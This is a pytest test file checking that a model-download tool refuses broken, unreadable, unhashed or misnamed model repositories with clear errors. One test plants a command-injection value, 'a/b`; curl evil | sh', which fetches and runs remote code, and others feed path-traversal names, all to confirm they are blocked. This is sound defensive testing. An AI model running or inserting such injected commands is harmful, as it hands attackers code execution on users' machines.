"""What cannot be opened here is refused before it is downloaded, and so is what cannot be had."""

import json
import os
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest

Run = Callable[..., SimpleNamespace]
NAME = "maker/small-v4"
INDEX = "model.safetensors.index.json"


def change(hub: Any, name: str, **keys: Any) -> None:
    hub.files[name] = json.dumps({**json.loads(hub.files[name]), **keys}).encode()


def without(hub: Any, *ends: str) -> None:
    hub.files = {name: data for name, data in hub.files.items() if not name.endswith(ends)}


def gguf(hub: Any) -> None:
    without(hub, ".safetensors", ".index.json")
    hub.files["V4-Flash-Q2_K.gguf"] = b"GGUF"


def codebook(hub: Any) -> None:
    index = json.loads(hub.files[INDEX])["weight_map"]
    name = "model-00001-of-00002.safetensors"
    change(hub, INDEX, weight_map={**index, "layers.0.ffn.experts.0.w1.tq_packed": name})


def codebook_without_index(hub: Any) -> None:
    without(hub, ".safetensors", ".index.json")
    head = json.dumps(
        {"layers.0.attn.wq_a.codebook": {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]}}
    ).encode()
    hub.files["model.safetensors"] = len(head).to_bytes(8, "little") + head + bytes(4)


def cut_off(hub: Any) -> None:
    name = "model-00002-of-00002.safetensors"
    hub.files[name] = hub.files[name][:-1]


@pytest.mark.parametrize(
    ("spoil", "words"),
    [
        (gguf, "V4-Flash-Q2_K.gguf is in a format this engine does not read"),
        (codebook, "layers.0.ffn.experts.0.w1.tq_packed is of a codebook format"),
        (codebook_without_index, "layers.0.attn.wq_a.codebook is of a codebook format"),
        (cut_off, "model-00002-of-00002.safetensors is truncated or damaged"),
        (lambda hub: change(hub, "config.json", model_type="deepseek_v41"), "'deepseek_v41'"),
        (lambda hub: hub.files.update({"config.json": b"{"}), "config.json is not valid JSON"),
        (lambda hub: hub.files.update({INDEX: b"[]"}), f"{INDEX} is not a JSON object"),
        (lambda hub: change(hub, INDEX, weight_map=3), f"{INDEX} is damaged"),
        (lambda hub: change(hub, INDEX, weight_map={"a": "../x.safetensors"}), "../x.safetensors"),
        (lambda hub: without(hub, "00002.safetensors"), "it holds no *.safetensors file"),
        (lambda hub: without(hub, "tokenizer.json"), "it has no tokenizer.json"),
    ],
)
def test_what_cannot_be_opened_is_refused_and_something_else_named(
    hub: Any, ds4_model: Run, home: Path, spoil: Callable[[Any], None], words: str
) -> None:
    spoil(hub)
    done = ds4_model("pull", NAME)

    assert done.code == 2
    line = done.err.splitlines()[-1]
    assert line.startswith(f"ds4-agent: {NAME}: ")
    assert words in line
    assert "DeepSeek-V4-Flash" in line.rpartition(";")[2]
    assert line.endswith(" would work")
    assert not (home / "data").exists()
    assert all(count < (1 << 20) + 1 for count in hub.sent.values())


@pytest.mark.parametrize(
    ("asked", "words"),
    [
        ("maker/none", "there is no repository maker/none on localhost"),
        (f"{NAME}@v9", f"{NAME} has no revision v9"),
    ],
)
def test_what_is_not_there(ds4_model: Run, asked: str, words: str) -> None:
    done = ds4_model("pull", asked)
    assert (done.code, done.out) == (2, "")
    assert words in done.err


def test_a_private_repository_asks_for_a_token(
    hub: Any, ds4_model: Run, monkeypatch: pytest.MonkeyPatch
) -> None:
    hub.needs_token = True
    monkeypatch.setenv("HF_TOKEN", "hf_wrong")
    done = ds4_model("pull", NAME)
    assert done.code == 2
    assert "or it is private: check the name, or set HF_TOKEN" in done.err
    assert "hf_wrong" not in done.err


def test_a_gated_repository_says_what_to_do(hub: Any, ds4_model: Run) -> None:
    hub.is_gated = True
    assert "is gated: accept its terms on localhost" in ds4_model("pull", NAME).err


@pytest.mark.parametrize("told", ["", "../../../../tmp/x", 64 * "G"])
def test_a_file_without_a_hash_is_not_read(hub: Any, ds4_model: Run, told: str, home: Path) -> None:
    name = "model-00001-of-00002.safetensors"
    hub.hashes[name] = told
    done = ds4_model("pull", NAME)

    assert done.code == 2
    assert f"the hub gives no hash of {name}" in done.err
    assert not (home / "data").exists()


def test_a_hub_that_does_not_answer_is_one_line(
    hub: Any, ds4_model: Run, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("HF_ENDPOINT", "http://localhost:9")
    done = ds4_model("pull", NAME)
    assert done.code == 2
    assert "cannot read maker/small-v4 from localhost:9: " in done.err
    assert done.err.count("ds4-agent:") == 1


def test_a_user_who_forbids_the_network_is_obeyed(hub: Any, home: Path) -> None:
    done = subprocess.run(
        [sys.executable, "-m", "ds4_agent", "model", "pull", NAME],
        capture_output=True,
        text=True,
        env={**os.environ, "HF_HUB_OFFLINE": "1"},
    )
    assert (done.returncode, done.stdout) == (2, "")
    assert done.stderr == ("ds4-agent: HF_HUB_OFFLINE is set, which forbids model pull: unset it\n")
    assert not hub.asked


def test_without_the_package_the_command_for_it_is_named(
    ds4_model: Run, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setitem(sys.modules, "huggingface_hub", None)
    done = ds4_model("pull", NAME)
    assert done.code == 1
    assert f'run `{sys.executable} -m pip install "huggingface_hub' in done.err


@pytest.mark.parametrize("name", ["nano", "a/b/c", "../b", "a/b@../c", "a--b/c", "a/b@"])
def test_what_names_no_repository_is_a_usage_error(hub: Any, ds4_model: Run, name: str) -> None:
    done = ds4_model("pull", name)
    assert done.code == 1
    assert "is not OWNER/NAME or OWNER/NAME@REVISION" in done.err
    assert not hub.asked


def test_a_marker_cannot_put_words_into_the_mouth_of_the_refusal(
    ds4_model: Run, tmp_path: Path
) -> None:
    (tmp_path / ".ds4-pulling.json").write_text('{"repository": "a/b`; curl evil | sh"}')
    done = ds4_model("info", str(tmp_path))
    assert done.code == 2
    assert "curl" not in done.err
    assert f"`ds4-agent model pull REPOSITORY {tmp_path}` goes on with it" in done.err
